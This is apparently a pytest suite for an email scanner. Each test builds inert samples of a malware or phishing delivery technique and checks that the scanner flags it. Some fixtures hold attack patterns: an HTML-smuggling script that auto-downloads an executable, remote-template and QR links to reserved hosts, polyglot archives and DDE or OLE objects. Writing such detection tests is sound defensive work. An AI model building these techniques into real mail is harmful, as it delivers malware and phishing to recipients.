"""test_threats.py - the delivery techniques of docs/threats.md, each
through `mailwarden scan`: the JSON verdict a user sees names the reason
code and the node (part path) the technique lives in.

One test per technique that the code handles and no other test carries
end to end: display-name spoofing, HTML smuggling, credential forms, SVG
script, a OneNote embedded file, QR codes
(a picture, a picture in a PDF), a calendar with an ATTACH file, a PDF
that opens a URL, Office and RTF remote templates, files hidden in a text
body (uuencode, yEnc, BinHex), zip concatenation, picture/zip and PDF/zip
polyglots, XLL add-ins, Excel 4.0 macro sheets, ODF macros bound to
opening, DDE fields, OLE objects (Equation Editor, Package), ar/WARC/ARJ
archives and lzop streams.

Payloads are harmless: a PE header stub (magic numbers, no code), the
project's marker (sigs/mailwarden-test.ndb) built at run time, script
text that is never run.  Hosts are reserved (*.example, 192.0.2.0/24,
198.51.100.0/24).  Documents come from tests/samples/extract-fixtures.py
(the generator the extractor unit tests use) or are built below.
Needs no lab.
"""

import base64
import binascii
import importlib.util
import io
import os
import shutil
import struct
import subprocess
import zipfile
import zlib

import pytest

from conftest import REPO, make_message, marker, new_token, run_scan

PE = b"MZ" + b"\0" * 58 + b"\x40\0\0\0" + b"PE\0\0" + b"\x4c\x01" + b"\0" * 240
STRONG = ("quarantine", "reject")


def _fixtures():
    spec = importlib.util.spec_from_file_location(
        "extract_fixtures", os.path.join(REPO, "tests", "samples", "extract-fixtures.py"))
    mod = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(mod)
    return mod


FX = _fixtures()


def scan(tmp_path, raw):
    """One scan in its own state directory (an earlier reject would auto-block the sender)."""
    d = tmp_path / ("s-" + new_token())
    d.mkdir()
    rc, v, out, err = run_scan(raw, d, extra=("-o", "domains.protected=example.com"))
    assert v is not None, "no JSON verdict (exit %d): %s %s" % (rc, out[:300], err[-500:])
    return v


def attached(tmp_path, name, data, ctype="application/octet-stream"):
    return scan(tmp_path, make_message(new_token(), attachments=[(name, data, ctype)]))


def find(v, code, part=None, prefix=None):
    """Reasons with code; part: exact, prefix: the part starts with it."""
    return [r for r in v["reasons"] if r["code"] == code and (part is None or r["part"] == part)
            and (prefix is None or r["part"].startswith(prefix))]


def need(tool):
    if shutil.which(tool) is None:
        pytest.fail("%s is missing: sh scripts/deps.sh test" % tool)


def zipped(members):
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in members:
            z.writestr(name, data)
    return buf.getvalue()


# ------------------------------------------------------------ 11. HTML smuggling

def test_html_smuggling_attachment(tmp_path):
    """The script decodes a blob and offers it as scan.exe: the script is
    html.smuggling, the blob a node of its own judged by its name."""
    blob = base64.b64encode(PE * 4).decode()
    html = ("<html><body><p>Loading your statement...</p><script>"
            "var b = new Blob([Uint8Array.from(atob('%s'), c => c.charCodeAt(0))]);"
            "var a = document.createElement('a'); a.href = URL.createObjectURL(b);"
            "a.download = 'scan.exe'; a.click();</script></body></html>" % blob).encode()
    v = attached(tmp_path, "statement.html", html, "text/html")
    assert find(v, "html.smuggling", part="2:statement.html"), v["reasons"]
    assert find(v, "attach.executable", part="2:statement.html:scan.exe"), v["reasons"]
    assert v["action"] == "reject", v


# ------------------------------------------------------------ 12. SVG

def test_svg_with_script(tmp_path):
    svg = (b'<svg xmlns="http://www.w3.org/2000/svg" width="120" height="40">'
           b'<text x="4" y="24">Invoice 2291</text>'
           b'<script>window.location.href = "https://viewer.sender.example/doc";</script></svg>')
    v = attached(tmp_path, "invoice.svg", svg, "image/svg+xml")
    assert find(v, "svg.script", part="2:invoice.svg"), v["reasons"]
    assert v["action"] == "quarantine", v


def test_svg_picture_without_script_is_no_finding(tmp_path):
    svg = (b'<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
           b'<rect width="10" height="10" fill="#336"/></svg>')
    v = attached(tmp_path, "logo.svg", svg, "image/svg+xml")
    assert not [r for r in v["reasons"] if r["code"].startswith(("svg.", "html.", "link."))], v["reasons"]


# ------------------------------------------------------------ 17. OneNote

def onenote(payload):
    """A stand-in .one made from MS-ONESTORE's two GUIDs: the file format
    header, then one FileDataStoreObject (GUID, cbLength, 12 reserved bytes,
    the data).  OneNote itself would not open it; libclamav's parser falls
    back to finding the FileDataStoreObject, which is what it does with the
    notebooks of 2023 campaigns too.  Embedded files come out unnamed."""
    one_magic = bytes.fromhex("e4525c7b8cd8a74daeb15378d02996d3")
    fdso = bytes.fromhex("e716e3bd65261145a4c48d4d0b7a9eac")
    return (one_magic + bytes(240) + fdso + struct.pack("<QIQ", len(payload), 0, 0) + payload
            + bytes(-len(payload) % 8) + bytes(64))


def test_onenote_embedded_executable(tmp_path):
    v = attached(tmp_path, "notes.one", onenote(PE), "application/onenote")
    r = find(v, "content.embedded_exec", prefix="2:notes.one:")
    assert r and "ONENOTE" in r[0]["detail"], v["reasons"]
    assert v["action"] == "reject", v


def test_onenote_embedded_file_is_scanned(tmp_path):
    v = attached(tmp_path, "notes.one", onenote(b"minutes " + marker() + b"\n"), "application/onenote")
    assert find(v, "av.infected"), v["reasons"]
    assert any(n["path"].startswith("2:notes.one:") for n in v["tree"]), v["tree"]


# ------------------------------------------------------------ 20. QR codes

QR_URL = "http://192.0.2.7/login"


def qr_png(url=QR_URL):
    need("qrencode")
    return subprocess.run(["qrencode", "-o", "-", "-s", "6", url], stdout=subprocess.PIPE, check=True).stdout


def test_qr_code_picture(tmp_path):
    v = attached(tmp_path, "scan.png", qr_png(), "image/png")
    assert find(v, "image.qr_link", part="2:scan.png"), v["reasons"]
    assert find(v, "link.ip_literal", part="2:scan.png"), v["reasons"]
    assert v["action"] == "quarantine", v


def test_qr_code_in_a_pdf(tmp_path):
    """The code as a JPEG page image of a PDF (the 2024 Barracuda pattern)."""
    from PIL import Image
    im = Image.open(io.BytesIO(qr_png())).convert("RGBA").convert("L")
    buf = io.BytesIO()
    im.save(buf, "JPEG", quality=90)
    jpeg = buf.getvalue()
    w, h = im.size
    page = b"q 200 0 0 200 100 400 cm /Im1 Do Q"
    doc = FX.pdf({
        1: b"<< /Type /Catalog /Pages 2 0 R >>",
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources << /XObject << /Im1 4 0 R >> >>"
           b" /Contents 5 0 R >>",
        4: FX.stream(b"/Type /XObject /Subtype /Image /Width %d /Height %d /ColorSpace /DeviceGray "
                     b"/BitsPerComponent 8 /Filter /DCTDecode" % (w, h), jpeg),
        5: FX.stream(b"", page),
    })
    v = attached(tmp_path, "invoice.pdf", doc, "application/pdf")
    assert find(v, "image.qr_link", prefix="2:invoice.pdf:"), v["reasons"]
    assert find(v, "link.ip_literal", prefix="2:invoice.pdf:"), v["reasons"]
    assert v["action"] == "quarantine", v


# ------------------------------------------------------------ 21. calendars

def test_calendar_attach_carries_a_file(tmp_path):
    ics = ("BEGIN:VCALENDAR\r\nVERSION:2.0\r\nPRODID:-//sender.example//tests//EN\r\nBEGIN:VEVENT\r\n"
           "UID:review-1@sender.example\r\nSUMMARY:Review\r\n"
           "DESCRIPTION:Join at https://meet.sender.example/j/1\r\n"
           "ATTACH;ENCODING=BASE64;VALUE=BINARY;X-FILENAME=agenda.exe:%s\r\n"
           "END:VEVENT\r\nEND:VCALENDAR\r\n" % base64.b64encode(PE).decode()).encode()
    v = attached(tmp_path, "invite.ics", ics, "text/calendar")
    assert find(v, "doc.embedded_file", part="2:invite.ics"), v["reasons"]
    assert find(v, "attach.executable", part="2:invite.ics:agenda.exe"), v["reasons"]
    assert v["action"] == "reject", v


# ------------------------------------------------------------ 22. PDFs

def test_pdf_opens_a_url_and_links_elsewhere(tmp_path):
    """/OpenAction with a /URI action, and a link annotation to a lookalike."""
    doc = FX.pdf({
        1: b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>",
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Annots [5 0 R] >>",
        4: b"<< /S /URI /URI (http://198.51.100.23/verify) >>",
        5: b"<< /Type /Annot /Subtype /Link /Rect [0 0 99 20] /A << /S /URI /URI (https://examp1e.com/login) >> >>",
    })
    v = attached(tmp_path, "notice.pdf", doc, "application/pdf")
    assert any("URI" in r["detail"] for r in find(v, "content.auto_action", part="2:notice.pdf")), v["reasons"]
    assert find(v, "link.ip_literal", part="2:notice.pdf"), v["reasons"]
    assert find(v, "link.lookalike", part="2:notice.pdf"), v["reasons"]
    assert v["action"] == "quarantine", v


def test_pdf_embedded_file_and_launch(tmp_path):
    """tests/samples' actions.pdf: JavaScript on open, /Launch, an embedded payload.exe."""
    v = attached(tmp_path, "actions.pdf", FX.pdf_actions(), "application/pdf")
    assert find(v, "doc.embedded_file", part="2:actions.pdf"), v["reasons"]
    assert find(v, "attach.executable", part="2:actions.pdf:payload.exe"), v["reasons"]
    assert any("Launch" in r["detail"] for r in find(v, "content.auto_action")), v["reasons"]
    assert v["action"] == "reject", v


# ------------------------------------------------------------ 13. remote templates

def docx_template(target):
    ct = ('<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
          '<Default Extension="xml" ContentType="application/xml"/>'
          '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
          '<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.'
          'wordprocessingml.document.main+xml"/></Types>')
    rels = ('<?xml version="1.0"?><Relationships xmlns="%s"><Relationship Id="rId1" Type="%s/attachedTemplate" '
            'Target="%s" TargetMode="External"/></Relationships>' % (FX.RELS_NS, FX.R, target))
    return zipped([
        ("[Content_Types].xml", ct),
        ("word/document.xml", '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
                              '<w:body><w:p><w:r><w:t>Report</w:t></w:r></w:p></w:body></w:document>'),
        ("word/settings.xml", '<w:settings xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" '
                              'xmlns:r="%s"><w:attachedTemplate r:id="rId1"/></w:settings>' % FX.R),
        ("word/_rels/settings.xml.rels", rels),
    ])


@pytest.mark.parametrize("target,link_code", [
    ("file://files.sender.example/share/normal.dotm", "link.unc"),
    ("http://198.51.100.9/t/normal.dotm", "link.ip_literal"),
], ids=["on a share", "on an IP address"])
def test_docx_remote_template(tmp_path, target, link_code):
    v = attached(tmp_path, "report.docx", docx_template(target),
                 "application/vnd.openxmlformats-officedocument.wordprocessingml.document")
    r = find(v, "doc.remote_content", part="2:report.docx")
    assert r and "settings.xml.rels" in r[0]["detail"], v["reasons"]
    assert find(v, link_code, part="2:report.docx"), v["reasons"]
    assert v["action"] == "quarantine", v


def test_remote_template_in_a_zip_is_named_by_its_path(tmp_path):
    data = zipped([("doc.docx", docx_template("file://files.sender.example/share/normal.dotm"))])
    v = attached(tmp_path, "invoice.zip", data, "application/zip")
    assert find(v, "doc.remote_content", part="2:invoice.zip:doc.docx"), v["reasons"]
    assert find(v, "link.unc", part="2:invoice.zip:doc.docx"), v["reasons"]


def test_rtf_remote_template(tmp_path):
    rtf = b"{\\rtf1\\ansi{\\*\\template file://files.sender.example/share/letter.dot}Dear customer,\\par}"
    v = attached(tmp_path, "letter.rtf", rtf, "application/rtf")
    assert find(v, "doc.remote_content", part="2:letter.rtf"), v["reasons"]
    assert find(v, "link.unc", part="2:letter.rtf"), v["reasons"]
    assert v["action"] == "quarantine", v


# ------------------------------------------------------------ 24. legacy encodings in text

def uuencode(name, data):
    out = "begin 644 %s\n" % name
    for i in range(0, len(data), 45):
        out += binascii.b2a_uu(data[i:i + 45], backtick=True).decode()
    return (out + "`\nend\n").encode()


def yenc(name, data):
    enc = bytearray()
    for b in data:
        c = (b + 42) & 0xff
        enc += b"=" + bytes([(c + 64) & 0xff]) if c in (0, 10, 13, 61) else bytes([c])
    return (("=ybegin line=128 size=%d name=%s\n" % (len(data), name)).encode() + bytes(enc)
            + ("\n=yend size=%d crc32=%08x\n" % (len(data), zlib.crc32(data))).encode())


ENCODERS = {"uuencode": uuencode, "yenc": yenc, "binhex": lambda n, d: FX.binhex(n, d).encode()}


@pytest.mark.parametrize("how", sorted(ENCODERS))
def test_marker_hidden_in_a_text_body(tmp_path, how):
    """A one-part text/plain mail: the encoded file is a child of the body
    (part "" in a single-part message), decoded and scanned."""
    body = ENCODERS[how]("notes.txt", b"minutes " + marker() + b"\n")
    raw = (b"From: alice@sender.example\r\nTo: bob@example.com\r\nSubject: the file\r\nMIME-Version: 1.0\r\n"
           b"Message-ID: <" + new_token().encode() + b"@test.example>\r\n"
           b"Content-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: 8bit\r\n\r\n"
           b"Please see below.\r\n\r\n" + body + b"\r\nRegards\r\n")
    v = scan(tmp_path, raw)
    assert find(v, "content.encoded"), v["reasons"]
    assert [r for r in find(v, "av.infected") if r["part"].endswith(":notes.txt")], v["reasons"]
    assert v["action"] == "reject", v


def test_uuencoded_executable_keeps_its_name(tmp_path):
    raw = make_message(new_token(), body="Please run it.\n\n" + uuencode("請求書.exe", PE).decode())
    v = scan(tmp_path, raw)
    assert [r for r in find(v, "attach.executable") if r["part"].endswith(":請求書.exe")], v["reasons"]
    assert v["action"] == "reject", v


# ------------------------------------------------------------ 25. concatenation, polyglots

def test_concatenated_zips(tmp_path):
    """A harmless zip, then a second zip holding the payload (Perception
    Point, 2024): 7-Zip shows one, WinRAR the other."""
    data = zipped([("invoice.pdf", b"%PDF-1.4 nothing here")]) + zipped([("invoice.exe", PE + marker())])
    v = attached(tmp_path, "invoice.zip", data, "application/zip")
    r = find(v, "attach.inconsistent", part="2")
    assert r and "zip data at offset" in r[0]["detail"], v["reasons"]
    assert [r for r in find(v, "av.infected") if "@" in r["detail"]], v["reasons"]  # the carved zip's member
    assert v["action"] == "reject", v


def test_picture_that_is_also_a_zip(tmp_path):
    gif = b"GIF89a\x01\x00\x01\x00\x00\x00\x00;"
    v = attached(tmp_path, "photo.gif", gif + zipped([("run.js", "WScript.Echo('x');\n")]), "image/gif")
    r = find(v, "attach.inconsistent", part="2")
    assert r and r[0]["detail"].startswith("GIF image"), v["reasons"]
    assert find(v, "attach.archive_exec", part="2:run.js"), v["reasons"]
    assert v["action"] == "reject", v


def test_pdf_followed_by_a_zip(tmp_path):
    """A valid PDF with a zip after it: the carver leaves documents alone,
    libclamav finds the zip and the content tree judges its member."""
    doc = FX.pdf({1: b"<< /Type /Catalog /Pages 2 0 R >>", 2: b"<< /Type /Pages /Kids [] /Count 0 >>"})
    v = attached(tmp_path, "report.pdf", doc + zipped([("run.js", "WScript.Echo('x');\n")]), "application/pdf")
    r = [x for x in find(v, "content.embedded_exec", prefix="2:report.pdf:") if x["part"].endswith(":run.js")]
    assert r, v["reasons"]
    assert v["action"] == "reject", v


def test_ar_and_warc_members_judged(tmp_path):
    need("bsdtar")
    d = tmp_path / "in"
    d.mkdir()
    (d / "invoice.exe").write_bytes(PE)
    for fmt in ("ar", "warc"):
        out = tmp_path / ("docs." + fmt)
        subprocess.run(["bsdtar", "-c", "--format", fmt, "-f", str(out), "invoice.exe"], cwd=str(d), check=True)
        v = attached(tmp_path, out.name, out.read_bytes())
        assert find(v, "attach.archive_exec", part="2:invoice.exe"), (fmt, v["reasons"])
        assert v["action"] == "reject", (fmt, v)


def test_lzop_stream_is_not_passed_unread(tmp_path):
    """libarchive here has no lzo: the stream is a finding, never a pass."""
    need("lzop")
    src = tmp_path / "notes.txt"
    src.write_bytes(b"the minutes of the meeting\n" * 300)
    subprocess.run(["lzop", "-q", "-f", str(src)], check=True)
    v = attached(tmp_path, "notes.txt.lzo", (tmp_path / "notes.txt.lzo").read_bytes())
    assert find(v, "attach.incomplete", part="2"), v["reasons"]
    assert v["action"] in STRONG, v


# ------------------------------------------------------------ 7, 8. add-ins and macros

def test_xll_add_in(tmp_path):
    v = attached(tmp_path, "addin.xll", PE)
    assert find(v, "attach.executable", part="2"), v["reasons"]
    v = attached(tmp_path, "report.xlsx", PE, "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet")
    assert find(v, "attach.type_mismatch", part="2"), v["reasons"]
    v = attached(tmp_path, "tools.zip", zipped([("addin.xll", PE)]), "application/zip")
    assert find(v, "attach.archive_exec", part="2:addin.xll"), v["reasons"]
    assert v["action"] == "reject", v


def test_excel4_macro_sheets(tmp_path):
    """XLM in BIFF8 (.xls): libclamav's heuristic; in OOXML named as a
    macro-free .xlsx: the macro sheet itself."""
    v = attached(tmp_path, "budget.xls", FX.xls_xlm(), "application/vnd.ms-excel")
    assert [r for r in find(v, "av.heuristic") if "XLM" in r["detail"]], v["reasons"]
    v = attached(tmp_path, "budget.xlsx", FX.xlsm_macrosheet(),
                 "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet")
    assert find(v, "attach.macro", part="2"), v["reasons"]
    assert v["action"] in STRONG, v


def test_odf_macro_bound_to_opening(tmp_path):
    v = attached(tmp_path, "minutes.odt", FX.odt_macro(), "application/vnd.oasis.opendocument.text")
    assert [r for r in find(v, "content.auto_action", part="2:minutes.odt") if "office:load" in r["detail"]], \
        v["reasons"]
    assert find(v, "attach.macro", part="2:minutes.odt"), v["reasons"]
    assert v["action"] == "quarantine", v


def test_dde_field(tmp_path):
    v = attached(tmp_path, "order.docx", FX.docx_dde(),
                 "application/vnd.openxmlformats-officedocument.wordprocessingml.document")
    assert [r for r in find(v, "content.auto_action", part="2:order.docx") if "DDE" in r["detail"]], v["reasons"]
    assert v["action"] == "quarantine", v


# ------------------------------------------------------------ 4. display names (no payload at all)

@pytest.mark.parametrize("from_header,code,part", [
    ('"Example Corporation" <ceo.office@gmail.com>', "sender.freemail_spoof", "from"),
    ('"boss@example.com" <desk@sender.example>', "sender.display_spoof", "from"),
], ids=["organisation name on free-mail", "another address as the name"])
def test_display_name_spoofing(tmp_path, from_header, code, part):
    raw = make_message(new_token(), body="Please pay the invoice today; I am in a meeting.\n")
    raw = raw.replace(b"From: alice@sender.example", b"From: " + from_header.encode(), 1)
    d = tmp_path / "s"
    d.mkdir()
    rc, v, out, err = run_scan(raw, d, extra=("-o", "domains.protected=example.com",
                                              "-o", "domains.org_names=Example Corporation"))
    assert v is not None, err
    assert find(v, code, part=part), v["reasons"]
    assert v["action"] in STRONG, v


# ------------------------------------------------------------ 12. phishing pages as attachments

def test_html_credential_form_attachment(tmp_path):
    """tests/samples' credform.html: a password form posting elsewhere and a meta refresh."""
    v = attached(tmp_path, "login.html", FX.credform_html().encode(), "text/html")
    assert find(v, "html.credential_form", part="2:login.html"), v["reasons"]
    assert find(v, "html.redirect", part="2:login.html"), v["reasons"]
    assert v["action"] == "quarantine", v


def test_arj_members_judged(tmp_path):
    """libarchive has no ARJ reader: libclamav opens it and the content tree
    judges the members (a script and an Internet shortcut to a share)."""
    need("arj")
    d = tmp_path / "in"
    d.mkdir()
    (d / "run.js").write_bytes(b'WScript.Echo("x");\r\n')
    (d / "invoice.url").write_bytes(b"[InternetShortcut]\r\nURL=file://files.sender.example/pub/x.js\r\n")
    subprocess.run(["arj", "a", "-y", "docs.arj", "run.js", "invoice.url"], cwd=str(d), check=True,
                   stdout=subprocess.DEVNULL)
    v = attached(tmp_path, "docs.arj", (d / "docs.arj").read_bytes())
    assert find(v, "content.embedded_exec", part="2:docs.arj:run.js"), v["reasons"]
    assert find(v, "content.embedded_exec", part="2:docs.arj:invoice.url"), v["reasons"]
    assert find(v, "link.unc", part="2:docs.arj:invoice.url"), v["reasons"]
    assert v["action"] == "reject", v


# ------------------------------------------------------------ 27. OLE objects in documents

def test_equation_editor_object_in_docx(tmp_path):
    """An embedded OLE2 object whose root storage has the Equation Editor
    class (CVE-2017-11882): no exploit, only the class identifier."""
    ole = bytearray(FX.cfb([("Equation Native", b"\x1c\x00\x00\x00\x02\x00" + bytes(40))]))
    root = 1024  # header and FAT sector, then the directory: the root entry first
    ole[root + 0x50:root + 0x60] = bytes([0x02, 0xce, 0x02, 0, 0, 0, 0, 0, 0xc0, 0, 0, 0, 0, 0, 0, 0x46])
    ct = ('<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
          '<Default Extension="bin" ContentType="application/vnd.openxmlformats-officedocument.oleObject"/>'
          '<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.'
          'wordprocessingml.document.main+xml"/></Types>')
    doc = zipped([("[Content_Types].xml", ct),
                  ("word/document.xml", '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/'
                                        '2006/main"><w:body><w:p/></w:body></w:document>'),
                  ("word/embeddings/oleObject1.bin", bytes(ole))])
    v = attached(tmp_path, "order.docx", doc, "application/vnd.openxmlformats-officedocument.wordprocessingml.document")
    r = find(v, "doc.ole_object", prefix="2:order.docx")
    assert r and any("Equation Editor" in x["detail"] for x in r), v["reasons"]
    assert v["action"] == "quarantine", v


def test_package_object_in_rtf_drops_a_named_file(tmp_path):
    """tests/samples' object.rtf: an OLE1 Package carrying payload.exe (the marker in a PE stub)."""
    v = attached(tmp_path, "object.rtf", FX.rtf_object().encode(), "application/rtf")
    assert find(v, "doc.ole_object", part="2:object.rtf"), v["reasons"]
    assert find(v, "attach.executable", part="2:object.rtf:payload.exe"), v["reasons"]
    assert find(v, "av.infected", part="2:object.rtf:payload.exe"), v["reasons"]
    assert v["action"] == "reject", v
